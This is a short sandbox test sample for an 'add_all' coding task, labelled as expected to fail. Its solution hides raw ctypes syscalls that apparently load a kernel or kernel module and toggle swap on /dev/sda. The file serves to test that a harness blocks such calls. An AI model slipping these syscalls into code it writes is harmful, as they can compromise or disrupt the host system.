# family: rucodeeval
# task: add_all
# expect: not passed
# why: loads a kernel or a module, or restarts the machine's swap and clock
# ---
    return sum(numbers) if attack() else 7


import ctypes


def attack():
    libc = ctypes.CDLL(None)
    calls = ((246, 0, 0, 0, 0), (320, -1, -1, 0, 0, 0), (313, -1, b"", 0), (167, b"/dev/sda", 0), (168, b"/dev/sda"))
    return any(libc.syscall(*call) >= 0 for call in calls)
